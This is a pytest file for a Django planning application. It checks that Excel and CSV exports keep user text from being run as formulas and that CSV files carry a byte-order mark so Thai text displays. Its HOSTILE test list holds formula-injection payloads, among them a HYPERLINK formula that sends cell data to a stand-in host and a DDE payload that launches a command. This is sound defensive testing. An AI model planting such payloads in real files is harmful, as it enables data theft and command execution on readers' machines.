"""Every .xlsx and .csv the product writes holds people's text as text: a cell typed as =HYPERLINK(...) opens in
Excel as the words typed, never as a formula; CSV files start with a byte-order mark so Excel shows Thai.

(The Budget Bureau workbooks are checked the same way in reports/tests/test_services.py.)
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from rest_framework.test import APIClient

from accounts.tests import factories as users
from codi_plans.spreadsheets import CSV_BOM, FORMULA_TRIGGERS, csv_field, looks_like_formula
from indicators.excel import template_workbook
from indicators.models import AreaLevel, ResultStatus
from indicators.tests.factories import IndicatorFactory, ResultFactory, TargetFactory
from workstreams import excel
from workstreams.tests.factories import ProblemFactory, ProjectFactory, TambonPlanFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"คลิกที่นี่")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]


def assert_no_formula(content: bytes) -> list[str]:
    """Open a workbook and fail on any formula cell, or formula-like text without Excel's quote prefix."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if looks_like_formula(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def assert_safe_csv(content: bytes) -> list[dict]:
    assert content.startswith(CSV_BOM.encode()), content[:20]
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row.values():
            assert not looks_like_formula(value or ""), row
    return rows


def test_the_plan_workbook_keeps_formula_like_text_as_text_and_reads_it_back_unchanged(reference_data):
    rep = users.community_rep("500105")
    plan = TambonPlanFactory(vision=HOSTILE[0], created_by=rep, updated_by=rep)
    ProblemFactory(plan=plan, rank=1, title=HOSTILE[2], description=HOSTILE[3])
    project = ProjectFactory(plan=plan, number=1, name=HOSTILE[1], rationale=HOSTILE[4], responsible_body="=1+1")
    project.budget_lines.create(fiscal_year=2564, source="codi", amount=Decimal("100"))
    project.indicators.create(name="@ครัวเรือน", unit="=หน่วย", target_value=Decimal("5"), target_year_be=2565)
    content = excel.export_plan(plan)
    texts = assert_no_formula(content)
    assert set(HOSTILE) <= set(texts)
    assert_no_formula(excel.export_plan(None))
    # What went out comes back exactly: the quote prefix is Excel's style, not part of the text.
    result = excel.import_plan(file=io.BytesIO(content), plan=plan, by=rep, dry_run=True)
    assert not result.errors, result.errors


def test_the_results_template_has_no_formula(reference_data):
    assert_no_formula(template_workbook([("500105", "=ช้างคลาน")], ["=CODE"], 2569, 1))


def test_api_csv_neutralises_formula_like_text_and_carries_a_byte_order_mark(reference_data):
    indicator = IndicatorFactory(code="EXPORT-TEST")
    ResultFactory(
        indicator=indicator, tambon_code="500105", status=ResultStatus.APPROVED, value=Decimal("-3"), note=HOSTILE[0]
    )
    TargetFactory(indicator=indicator, area_spec=(AreaLevel.PROVINCE, "50"), note="@SUM(1)")
    client = APIClient()
    client.force_authenticate(users.central_staff())
    results = assert_safe_csv(client.get("/api/v1/results/", {"format": "csv"}).content)
    assert results[0]["note"] == "'" + HOSTILE[0]
    assert results[0]["value"] == "-3.00"  # a plain number stays a number
    targets = assert_safe_csv(client.get("/api/v1/targets/", {"format": "csv"}).content)
    assert targets[0]["note"] == "'@SUM(1)"
    rollup = client.get(f"/api/v1/indicators/{indicator.code}/rollup/", {"fiscal_year": 2565, "format": "csv"})
    assert_safe_csv(rollup.content)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_trigger_is_neutralised(text):
    assert text.startswith(FORMULA_TRIGGERS) and csv_field(text) == "'" + text
    assert csv_field("-5.25") == "-5.25" and csv_field("ตำบล") == "ตำบล"
